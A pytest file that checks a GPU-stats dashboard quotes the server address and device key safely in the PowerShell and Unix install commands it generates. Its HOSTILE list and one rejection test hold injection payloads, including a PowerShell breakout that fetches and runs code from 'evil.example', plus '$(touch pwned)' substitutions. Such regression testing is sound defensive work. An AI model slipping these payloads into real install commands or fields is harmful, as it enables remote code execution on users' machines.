"""The install commands the Devices page shows: each value quoted for its shell, whatever the address (issue: iex through a ')."""
import json
import os
import subprocess
import sys

import pytest

from config import ConfigError, load_config
from gpustats.devices.install import commands

OPEN = {"ENV_FILE": os.devnull, "DASHBOARD_PUBLIC": "1"}
HOSTILE = [
    "https://gpus.example.com/a';iex(iwr -useb http://evil.example/p);'",  # the filed attack
    "https://gpus.example.com/a\u2019;iex(iwr -useb http://evil.example/p);\u2018",  # PowerShell's other quotes
    "https://gpus.example.com/\u201a\u201b''\u2019\u2018'",
    'https://x.example/$(touch pwned)`touch pwned`"; touch pwned; "$HOME',
    "https://x.example/a b\nc\td",
    "http://",  # werkzeug leaves request.host empty for a Host header it finds malformed
]
KEYS = ["2hMq0xOe1Rk7xVtq_T8uZ-Yb5Q2d", "k'e\u2019y\u201b$(touch pwned);`touch pwned`"]
POWERSHELL_QUOTES = "'\u2018\u2019\u201a\u201b"  # PowerShell's tokenizer reads each as a single quote


def powershell_literals(command):
    """Split `command` by PowerShell's single-quoted string rules: (the code with each literal as '', the literals).

    Inside a single-quoted string two quotes in a row are one, the second kept; a lone quote ends it.
    """
    code, literals, at = [], [], 0
    while at < len(command):
        if command[at] not in POWERSHELL_QUOTES:
            code.append(command[at])
            at += 1
            continue
        text, at = [], at + 1
        while True:
            assert at < len(command), f"a string left open: {command!r}"
            if command[at] in POWERSHELL_QUOTES:
                if at + 1 < len(command) and command[at + 1] in POWERSHELL_QUOTES:
                    text.append(command[at + 1])
                    at += 2
                    continue
                at += 1
                break
            text.append(command[at])
            at += 1
        literals.append("".join(text))
        code.append("''")
    return "".join(code), literals


@pytest.mark.parametrize("base", HOSTILE)
@pytest.mark.parametrize("key", KEYS)
def test_on_windows_every_value_is_one_powershell_literal_that_reads_back_exactly(base, key):
    code, literals = powershell_literals(commands(base, key)["windows"])
    assert literals == [f"{base}/agent.py", f"{base}/agent-requirements.txt", key, f"{base}/push-sse"]
    plain_code, _ = powershell_literals(commands("https://gpus.example.com", KEYS[0])["windows"])
    assert code == plain_code  # nothing of the address or key left the strings: no iex, no ;


def test_the_powershell_reader_can_fail():
    # The check above must be able to fail: the filed command, with the address pasted into '...' as it was.
    base = HOSTILE[0]
    code, literals = powershell_literals(f"Invoke-WebRequest '{base}/agent.py' -OutFile agent.py")
    assert "iex(iwr" in code and literals != [f"{base}/agent.py"]


@pytest.fixture
def posix_tools(tmp_path):
    """Put a curl and a python3 on PATH that record their arguments; python3 -m venv makes a pip and python that do."""
    tools, calls = tmp_path / "bin", tmp_path / "calls"
    tools.mkdir()
    fake = (f"#!{sys.executable}\nimport json, os, shutil, sys\n"
            f"with open({str(calls)!r}, 'a') as f:\n"
            "    f.write(json.dumps([os.path.basename(sys.argv[0]), sys.argv[1:], os.environ.get('DEVICE_KEY')]) + '\\n')\n"
            "if sys.argv[1:3] == ['-m', 'venv']:\n"
            "    os.makedirs(sys.argv[3] + '/bin')\n"
            "    for name in ('pip', 'python'):\n"
            "        shutil.copy(sys.argv[0], sys.argv[3] + '/bin/' + name)\n")
    for name in ("curl", "python3"):
        (tools / name).write_text(fake)
        (tools / name).chmod(0o755)
    return tools, calls


@pytest.mark.parametrize("system", ["linux", "macos"])
@pytest.mark.parametrize("shell", ["sh", "bash"])
@pytest.mark.parametrize("base", HOSTILE)
def test_on_linux_and_macos_every_value_reaches_its_program_as_one_argument(system, shell, base, posix_tools, tmp_path):
    tools, calls = posix_tools
    home = tmp_path / "home"
    home.mkdir()
    key = KEYS[1]
    done = subprocess.run([shell, "-c", commands(base, key)[system]], cwd=home, capture_output=True, text=True,
                          env={"HOME": str(home), "PATH": f"{tools}:/usr/bin:/bin"}, timeout=30)
    assert done.returncode == 0, done.stderr
    assert [json.loads(line) for line in calls.read_text().splitlines()] == [
        ["curl", ["-fsSLO", f"{base}/agent.py"], None],
        ["curl", ["-fsSL", f"{base}/agent-requirements.txt", "-o", "requirements-agent.txt"], None],
        ["python3", ["-m", "venv", ".venv"], None],
        ["pip", ["install", "-q", "-r", "requirements-agent.txt"], None],
        ["python", ["agent.py", "--url", f"{base}/push-sse", "--install"], key]]
    assert list(tmp_path.rglob("pwned")) == []


@pytest.mark.parametrize("address", [
    "https://gpus.example.com/a';iex(iwr -useb http://evil.example/p);'", "https://gpus.example.com/a'b",
    'https://gpus.example.com/"x"', "https://gpus.example.com/`id`", "https://gpus.example.com/a b",
    "https://gpus.example.com/a\tb", "https://gpus.example.com/\u2019", "https://gpus.example.com/<x>",
    "https://gpus.example.com/a\\b", "https://gpus.example.com/{x}", "https://gpus.example.com/a|b",
])
def test_an_address_with_quotes_spaces_or_other_non_url_characters_is_one_error_naming_the_setting(address):
    with pytest.raises(ConfigError) as error:
        load_config(environ={**OPEN, "ALERT_DASHBOARD_URL": address})
    assert str(error.value).startswith("ALERT_DASHBOARD_URL: ") and "\n" not in str(error.value)


@pytest.mark.parametrize("address", ["https://gpus.example.com", "http://10.0.0.5:3000/", "https://[2001:db8::1]:8443",
                                     "https://example.com/gpu-stats/dash_1.x~y", "https://example.com/a%20b"])
def test_an_ordinary_address_is_kept(address):
    assert load_config(environ={**OPEN, "ALERT_DASHBOARD_URL": address}).alert_dashboard_url == address.rstrip("/")
